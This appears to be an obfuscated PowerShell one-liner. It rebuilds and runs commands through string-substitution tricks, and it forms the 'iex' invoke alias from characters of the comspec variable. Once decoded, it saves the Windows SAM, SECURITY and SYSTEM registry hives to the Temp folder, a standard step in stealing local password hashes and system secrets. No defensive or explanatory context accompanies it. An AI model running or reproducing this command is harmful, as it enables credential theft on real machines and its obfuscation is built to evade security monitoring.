'iex ((''# confijz~5 6234 v3KJQ92
rejz~5.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y
rejz~5.exe save HKLM\SECURITY C:KJQ92\Windows\Temp\sec.hiv /y
rejz~5.exe save HKLM\SYSTEM C:\WindKJQ92ows\Temp\sys.hiv /y
'' -replace ''KJQ92'','''').Replace(''jz~5'',''g''))' | & ($env:comspec[4,15,25]-join'')